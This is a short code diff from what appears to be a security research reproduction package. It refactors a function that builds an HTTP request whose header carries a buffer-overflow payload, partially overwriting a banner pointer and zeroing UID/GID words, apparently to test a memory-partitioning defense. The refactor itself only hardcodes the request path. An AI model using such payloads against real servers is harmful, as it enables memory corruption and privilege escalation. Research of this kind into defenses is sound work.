@@ -29,9 +29,7 @@ from repro.attacks.memory_attacks import AddressInjectionAttack
 from repro.attacks.payloads import OverflowSpec
 
 
-def partial_pointer_payload(
-    value: int, *, partial_bytes: int = 1, path: str = "/index.html"
-) -> bytes:
+def partial_pointer_payload(value: int, *, partial_bytes: int = 1) -> bytes:
     """Overwrite only the low *partial_bytes* bytes of the banner pointer.
 
     The overflow must cross the three UID/GID words (zeroing them, as a real
@@ -43,7 +41,7 @@ def partial_pointer_payload(
     guarantee-exempt case plain partitioning cannot see.
     """
     spec = OverflowSpec(fields=(0, 0, 0, value), partial_bytes=partial_bytes)
-    return format_request(path, headers={VULNERABLE_HEADER: spec.header_value()})
+    return format_request("/index.html", headers={VULNERABLE_HEADER: spec.header_value()})
 
 
 @dataclasses.dataclass(frozen=True)
